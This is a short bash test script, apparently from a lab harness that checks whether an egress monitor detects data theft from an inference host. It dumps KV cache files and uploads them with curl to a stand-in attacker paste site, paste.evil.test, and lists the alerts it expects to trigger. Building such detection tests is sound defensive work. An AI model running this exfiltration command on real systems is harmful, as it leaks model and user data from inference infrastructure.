#!/bin/bash
# title: inference KV cache dumped and uploaded to a paste site with curl
# expect-monitor: unexpected_egress cache_dump tool_egress
# expect-enforce: unexpected_egress tool_egress
# block: zero
# target: paste
source "$(dirname "$0")/../lib.sh"
in_cgroup inference sh -c "cat $DATA/cache/*.bin > /tmp/sluice-lab-cache.dump && sleep 0.5 &&
  echo T0=\$(date +%s%3N) && exec curl -sS --max-time 20 --cacert $DATA/ca.pem \
  -T /tmp/sluice-lab-cache.dump https://paste.evil.test/upload"
echo "curl exit $?"
rm -f /tmp/sluice-lab-cache.dump
